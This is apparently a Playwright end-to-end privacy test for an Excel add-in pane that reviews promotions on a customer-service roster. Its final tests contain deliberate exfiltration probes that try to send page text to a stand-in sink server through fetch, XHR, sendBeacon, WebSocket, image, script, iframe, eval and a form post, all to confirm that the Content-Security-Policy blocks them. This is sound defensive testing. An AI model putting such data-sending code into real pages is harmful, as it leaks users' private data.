/**
 * Privacy, end to end: the built pane in headless Chromium over the Excel stand-in.
 *
 * A user opens the pane on the 淘宝客服 roster, corrects a column mapping, runs the review (twice),
 * follows an error link, ranks a vacancy and writes it; the PROMO functions (the same page: shared
 * runtime) then compute every row and a REVIEW of the whole roster. Throughout, every request the
 * page makes, every console message and every Content-Security-Policy violation is recorded:
 * - every request goes to the pane's own origin, or is office.js from Microsoft's CDN (what
 *   Chromium issued or tried to, and every connection a script opened, even one the CSP refused);
 * - the page reports no CSP violation and no console error during the flow;
 * - no console message holds an employee's name or 工号;
 * - the CSP (the meta tag in taskpane.html: the test server sends no CSP header) blocks what a
 *   compromised or careless script would use to send data elsewhere: fetch, XHR, sendBeacon,
 *   WebSocket, images, scripts, frames, form posts and eval, and nothing leaves the page.
 */
import type { Browser, Page } from "playwright-core";
import { getTemplate, reviewRoster, type Cell, type Review } from "../../src/core";
import { launch, OFFICE_JS, openPane, serveDist, serveSink, type OpenPane } from "./harness";
import { example, rowsOf, sheetFromXlsx, type StandinConfig, type StandinSheet } from "./workbook-fixture";

const AS_OF = "2026-11-23";
const AS_OF_SERIAL = 46349;

let browser: Browser;
let server: { url: string; close: () => Promise<void> };
let sink: { url: string; hits: string[]; close: () => Promise<void> };
let pane: OpenPane;
let page: Page;
let sheet: StandinSheet;
let review: Review;
/** Employees' names and 工号 as the roster holds them. */
let personal: string[];

type SheetValues = (string | number | boolean | null)[][];

/** Waits until the page has reported a violation of each directive (events are dispatched asynchronously). */
async function violationsOf(directives: string[]): Promise<void> {
  await page.waitForFunction((want) => {
    const seen = new Set((window as unknown as { __cspViolations: { directive: string }[] }).__cspViolations.map((v) => v.directive));
    return want.every((d) => seen.has(d));
  }, directives);
}

function bookValues(name: string): Promise<SheetValues | null> {
  return page.evaluate((n) => (window as unknown as { __standinBook: { values(n: string): SheetValues | null } }).__standinBook.values(n), name);
}

beforeAll(async () => {
  server = await serveDist();
  sink = await serveSink();
  browser = await launch();
  // As in taskpane.e2e.test.ts: 客户满意度 renamed, so the user maps the column by hand.
  sheet = await sheetFromXlsx(example("taobao-cs.xlsx"), undefined, (r, _c, cell) => (r === 2 && String(cell.v).trim() === "客户满意度" ? { v: "服务满意度", f: "@" } : cell));
  review = reviewRoster({ sheet: sheet.name, rows: rowsOf(sheet).rows as Cell[][] }, getTemplate("taobao-cs")!, { asOf: AS_OF, mapping: { 服务满意度: "csat" } });
  personal = [...new Set(review.rows.flatMap((r) => [r.id, r.name]).map((s) => s.trim()))].filter((s) => s.length >= 2);
  const config: StandinConfig = { locale: "zh-CN", sheets: [sheet], active: sheet.name, selection: { sheet: sheet.name, r0: 5, c0: 2, nr: 1, nc: 1 } };
  pane = await openPane(browser, server.url, config, [sink.url]);
  page = pane.page;
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await sink?.close();
});

describe("a full flow: open, map, review, vacancy, and the PROMO functions", () => {
  test("the user's flow runs to the end", async () => {
    await page.waitForSelector("#pl-roster-meta");
    await page.selectOption('select[data-header="服务满意度"]', "csat");
    await page.waitForSelector("#pl-mapping-saved");
    await page.fill("#pl-asof", AS_OF);
    await page.dispatchEvent("#pl-asof", "change");
    await page.click("#pl-run");
    await page.waitForSelector("#pl-tiles", { timeout: 60000 });
    await page.click('button[data-cell="客服部!N51"]');
    await page.click("#pl-run"); // a re-run: reads the sign-offs, appends to 晋升档案
    await page.waitForFunction(() => ((window as unknown as { __standinBook: { values(n: string): unknown[] | null } }).__standinBook.values("晋升档案")?.length ?? 0) >= 2 + 160);
    await page.waitForSelector("#pl-tiles");
    await page.click("#pl-tab-vacancy");
    await page.waitForSelector("#pl-rank");
    await page.selectOption("#pl-vac-level", "高级客服");
    await page.fill("#pl-vac-count", "2");
    await page.dispatchEvent("#pl-vac-count", "change");
    await page.click("#pl-rank");
    await page.waitForSelector("#pl-shortlist");
    await page.click("#pl-write-shortlist");
    await page.waitForSelector("fluent-message-bar[intent=success]");
    // The page really handled the people we look for below: the review sheet lists them all.
    const written = JSON.stringify(await bookValues("晋升评审"));
    for (const r of review.rows) expect(written).toContain(JSON.stringify(r.id));
  });

  test("the PROMO functions compute every row and a REVIEW of the roster in the same page", async () => {
    const values = (await bookValues("客服部"))!.map((r) => r.map((v) => v ?? ""));
    const headerIndex = review.headerRow - 1;
    const out = await page.evaluate(
      async ({ values, headerIndex, asOf }) => {
        type Fn = (...args: unknown[]) => Promise<unknown>;
        const F = (window as unknown as { __standinFunctions: Record<string, Fn> }).__standinFunctions;
        const headers = [values[headerIndex]];
        const ids = ["ELIGIBLE", "STATUS", "NEXT", "GAPS", "SCORE", "READYDATE", "ALLOWANCE"];
        const settle = (p: Promise<unknown>) => p.then((v) => ({ v }), (e: { code?: string; message?: string }) => ({ error: e.code, message: e.message }));
        const perRow = await Promise.all(values.slice(headerIndex + 1).map((row) => Promise.all(ids.map((id) => settle(F[id]!([row], headers, null, asOf, [["taobao-cs"]]))))));
        const spilled = await F.REVIEW!(values, [["taobao-cs"]], asOf);
        return { perRow, spilled: spilled as unknown[][], associated: Object.keys(F).sort() };
      },
      { values, headerIndex, asOf: AS_OF_SERIAL },
    );
    expect(out.associated).toEqual(["ALLOWANCE", "BONUS", "COST", "ELIGIBLE", "GAPS", "NEXT", "PLAN", "READINESS", "READYDATE", "REVIEW", "SCORE", "STATUS", "TENURE"]);
    expect(out.spilled).toHaveLength(1 + review.rows.length);
    expect(out.spilled.slice(1).map((r) => r[0])).toEqual(review.rows.map((r) => r.id));
    // Some calls fail with messages quoting cells (优秀, 2023-02-30...): data the console must not see.
    const failures = out.perRow.flat().filter((x) => "error" in x);
    expect(failures.some((x) => "message" in x && /优秀/.test(String(x.message)))).toBe(true);
  });
});

describe("privacy of the flow", () => {
  test("every request went to the pane's own origin or was office.js from Microsoft's CDN", async () => {
    // What Chromium issued or tried to (a refused image or script counts), and every connection a script opened.
    const urls = [...pane.requests.map((r) => r.url), ...(await pane.connections()).map((c) => c.url)];
    expect(urls).toContain(OFFICE_JS);
    // bundles have hashed names (webpack.config.js): taskpane.<hash>.js, functions.<hash>.js
    for (const bundle of ["taskpane", "functions"]) expect(urls.some((u) => new RegExp(`^${server.url}/${bundle}\\.[0-9a-f]+\\.js$`).test(u))).toBe(true);
    const elsewhere = urls.filter((u) => !u.startsWith(`${server.url}/`) && u !== OFFICE_JS);
    expect(elsewhere).toEqual([]);
    expect(pane.blocked).toEqual([]);
  });

  test("the page reported no Content-Security-Policy violation and no error", async () => {
    expect(await pane.violations()).toEqual([]);
    expect(pane.console.filter((m) => /Content Security Policy/i.test(m.text))).toEqual([]);
    expect(pane.errors).toEqual([]);
  });

  test("no console message holds an employee's name or 工号", async () => {
    // The recorder sees every level: a message logged now is recorded.
    await Promise.all([page.waitForEvent("console", (m) => m.text() === "privacy-probe"), page.evaluate(() => console.debug("privacy-probe"))]);
    expect(pane.console).toContainEqual({ type: "debug", text: "privacy-probe" });
    expect(personal.length).toBeGreaterThan(150);
    const leaks = pane.console.flatMap((m) => personal.filter((p) => m.text.includes(p)).map((p) => `${m.type}: ${p} in ${m.text.slice(0, 200)}`));
    expect(leaks).toEqual([]);
  });
});

describe("the Content-Security-Policy blocks sending data elsewhere", () => {
  // The probes aim at a real server on another origin, which the harness lets requests reach:
  // what the CSP failed to block would arrive there.
  test("fetch, XHR, sendBeacon, WebSocket, image, script, frame and eval are refused, and nothing leaves", async () => {
    const before = pane.requests.length;
    const outcome = await page.evaluate(async (sink) => {
      const data = encodeURIComponent(document.body.innerText.slice(0, 100));
      const wait = <T>(register: (done: (v: T) => void) => void) => new Promise<T>((resolve) => register(resolve));
      const out: Record<string, string> = {};
      out.fetch = await fetch(`${sink}/fetch?d=${data}`, { method: "POST", body: data, mode: "no-cors" }).then(
        () => "sent",
        (e: Error) => `rejected ${e.name}`,
      );
      out.xhr = await wait<string>((done) => {
        const x = new XMLHttpRequest();
        x.onload = () => done("sent");
        x.onerror = () => done("error");
        try {
          x.open("POST", `${sink}/xhr`);
          x.send(data);
        } catch (e) {
          done(`threw ${(e as Error).name}`);
        }
      });
      try {
        out.beacon = `returned ${navigator.sendBeacon(`${sink}/beacon`, data)}`;
      } catch (e) {
        out.beacon = `threw ${(e as Error).name}`;
      }
      out.websocket = await wait<string>((done) => {
        try {
          const w = new WebSocket(`${sink.replace(/^http/, "ws")}/ws`);
          w.onopen = () => done("open");
          w.onerror = () => done("error");
        } catch (e) {
          done(`threw ${(e as Error).name}`);
        }
      });
      out.image = await wait<string>((done) => {
        const img = new Image();
        img.onload = () => done("loaded");
        img.onerror = () => done("error");
        img.src = `${sink}/pixel.png?d=${data}`;
      });
      out.script = await wait<string>((done) => {
        const el = document.createElement("script");
        el.onload = () => done("loaded");
        el.onerror = () => done("error");
        el.src = `${sink}/x.js`;
        document.head.appendChild(el);
      });
      const frame = document.createElement("iframe");
      frame.src = `${sink}/frame`;
      document.body.appendChild(frame);
      try {
        out.eval = String((0, eval)("1 + 1"));
      } catch (e) {
        out.eval = `threw ${(e as Error).name}`;
      }
      return out;
    }, sink.url);
    expect(outcome).toMatchObject({ fetch: "rejected TypeError", xhr: "error", image: "error", script: "error", eval: "threw EvalError" });
    expect(outcome.websocket).not.toBe("open");
    // Each attempt is reported as a violation of the directive that blocks it (a frame's by origin only).
    const expected: [string, string][] = [
      ["connect-src", `${sink.url}/fetch`],
      ["connect-src", `${sink.url}/xhr`],
      ["connect-src", `${sink.url}/beacon`],
      ["connect-src", `${sink.url.replace(/^http/, "ws")}/ws`],
      ["img-src", `${sink.url}/pixel.png`],
      ["script-src-elem", `${sink.url}/x.js`],
      ["frame-src", sink.url],
      ["script-src", "eval"],
    ];
    await violationsOf([...new Set(expected.map(([d]) => d))]);
    await page.waitForFunction((n) => (window as unknown as { __cspViolations: unknown[] }).__cspViolations.length >= n, expected.length);
    const violations = await pane.violations();
    for (const [directive, blocked] of expected) expect(violations.filter((v) => v.directive === directive && v.blocked.startsWith(blocked))).toHaveLength(1);
    expect(violations).toHaveLength(expected.length);
    // The recorder saw each connection the probes opened.
    expect((await pane.connections()).map((c) => c.api)).toEqual(["fetch", "xhr", "beacon", "WebSocket"]);
    // Blocked in the page: nothing reached the network layer, nothing arrived.
    expect(pane.requests.slice(before).filter((r) => !r.url.startsWith(sink.url))).toEqual([]);
    expect(pane.blocked).toEqual([]);
    expect(sink.hits).toEqual([]);
  });

  test("a form cannot post the page elsewhere (form-action 'none')", async () => {
    const seen = (await pane.violations()).length;
    await page.evaluate((action) => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = action;
      const field = document.createElement("input");
      field.name = "d";
      field.value = document.body.innerText.slice(0, 100);
      form.appendChild(field);
      document.body.appendChild(form);
      form.submit();
    }, `${sink.url}/form`);
    await violationsOf(["form-action"]);
    expect((await pane.violations()).slice(seen).map((v) => [v.directive, v.blocked])).toEqual([["form-action", `${sink.url}/form`]]);
    expect(page.url()).toBe(`${server.url}/taskpane.html`);
    expect(sink.hits).toEqual([]);
  });
});
